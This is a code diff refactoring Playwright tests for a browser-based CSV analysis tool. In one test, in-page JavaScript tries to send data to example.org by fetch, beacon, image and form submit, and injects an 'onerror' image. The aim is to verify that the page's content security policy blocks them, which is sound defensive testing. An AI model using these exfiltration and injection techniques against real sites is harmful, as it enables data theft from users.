@@ -49,7 +49,8 @@ def draw(page):
 @pytest.mark.parametrize(
     ("example", "name", "slope"), [("sleepstudy", "310", "10.467"), ("radon", "REDWOOD", "-0.68")]
 )
-def test_an_example_is_one_click_away(page, site, bring, example, name, slope):
+@pytest.mark.usefixtures("bring")
+def test_an_example_is_one_click_away(page, example, name, slope):
     wrong = watch(page)
     page.locator(f"[data-file='{example}.csv']").click()
     page.locator(RESULTS).wait_for()
@@ -86,7 +87,7 @@ def test_accessible_with_results(page, bring, scheme):
 def test_nothing_leaves(page, site, bring):
     """Even a script that wants to send something cannot."""
     asked = []
-    page.context.on("request", asked.append)
+    page.context.on("request", lambda request: asked.append(request))
     bring(rows(name=lambda c: f"secret{c}"))
     draw(page)
     page.locator("[data-do=download]").click()
@@ -96,7 +97,8 @@ def test_nothing_leaves(page, site, bring):
     tried = page.evaluate(
         """async () => {
           const blocked = [];
-          document.addEventListener("securitypolicyviolation", (e) => blocked.push(e.effectiveDirective));
+          const note = (event) => blocked.push(event.effectiveDirective);
+          document.addEventListener("securitypolicyviolation", note);
           await fetch("https://example.org/?d=1").catch(() => {});
           navigator.sendBeacon("https://example.org/", "1");
           const image = new Image();
@@ -105,7 +107,8 @@ def test_nothing_leaves(page, site, bring):
           form.action = "https://example.org/";
           document.body.append(form);
           form.submit();
-          document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.owned = 1">');
+          const markup = '<img src="data:," onerror="window.owned = 1">';
+          document.body.insertAdjacentHTML("beforeend", markup);
           await new Promise((resolve) => setTimeout(resolve, 500));
           return blocked;
         }"""
@@ -230,7 +233,8 @@ def test_choices_stay_when_the_text_is_corrected(page, bring):
     page.locator(".yd-print", has_text="x ~ [y, centred]").wait_for()
 
 
-def test_a_file_with_semicolons_and_decimal_commas(page, bring, tmp_path):
+@pytest.mark.usefixtures("bring")
+def test_a_file_with_semicolons_and_decimal_commas(page, tmp_path):
     file = tmp_path / "tabelle.csv"
     text = rows().replace(",", ";").replace(".", ",").replace("c0", "Zürich")
     file.write_bytes(b"\xef\xbb\xbf" + text.encode())
@@ -245,13 +249,15 @@ def test_a_file_with_semicolons_and_decimal_commas(page, bring, tmp_path):
     assert page.locator(".yd-problem").evaluate("e => e.getAttribute('role')") == "alert"
 
 
-def test_a_file_can_be_dropped_anywhere(page, bring):
+@pytest.mark.usefixtures("bring")
+def test_a_file_can_be_dropped_anywhere(page):
     page.evaluate(
         """(text) => {
           const data = new DataTransfer();
           data.items.add(new File([text], "dropped.csv"));
+          const options = { dataTransfer: data, bubbles: true, cancelable: true };
           for (const kind of ["dragover", "drop"])
-            document.body.dispatchEvent(new DragEvent(kind, { dataTransfer: data, bubbles: true, cancelable: true }));
+            document.body.dispatchEvent(new DragEvent(kind, options));
         }""",
         rows(),
     )
@@ -266,7 +272,8 @@ def test_what_is_brought_before_any_script_is_read(page, site):
     page.locator(RESULTS).wait_for()
 
 
-def test_a_million_rows(page, bring, tmp_path):
+@pytest.mark.usefixtures("bring")
+def test_a_million_rows(page, tmp_path):
     """Without a frozen page: what the page itself does never takes a second."""
     file = tmp_path / "million.csv"
     with file.open("w") as out:
@@ -279,7 +286,8 @@ def test_a_million_rows(page, bring, tmp_path):
         """() => {
           window.longest = 0;
           new PerformanceObserver((list) => {
-            for (const { duration } of list.getEntries()) window.longest = Math.max(window.longest, duration);
+            const durations = list.getEntries().map(({ duration }) => duration);
+            window.longest = Math.max(window.longest, ...durations);
           }).observe({ type: "longtask" });
         }"""
     )
@@ -296,8 +304,7 @@ def test_a_million_rows(page, bring, tmp_path):
     frozen = page.evaluate("longest")
     assert "1,000,000 rows in 100,000 clusters" in page.locator(".yd-said").inner_text()
     figure = draw(page)
-    print(
-        f"a million rows: {seconds:.1f} s; longest task {frozen:.0f} ms, with the figure {page.evaluate('longest'):.0f} ms"
-    )
+    drawn = page.evaluate("longest")
+    print(f"a million rows: {seconds:.1f} s; longest task {frozen:.0f} ms, drawing {drawn:.0f} ms")
     assert "500 of 100,000 clusters" in figure.locator("figcaption").inner_text()
     assert frozen < 1000
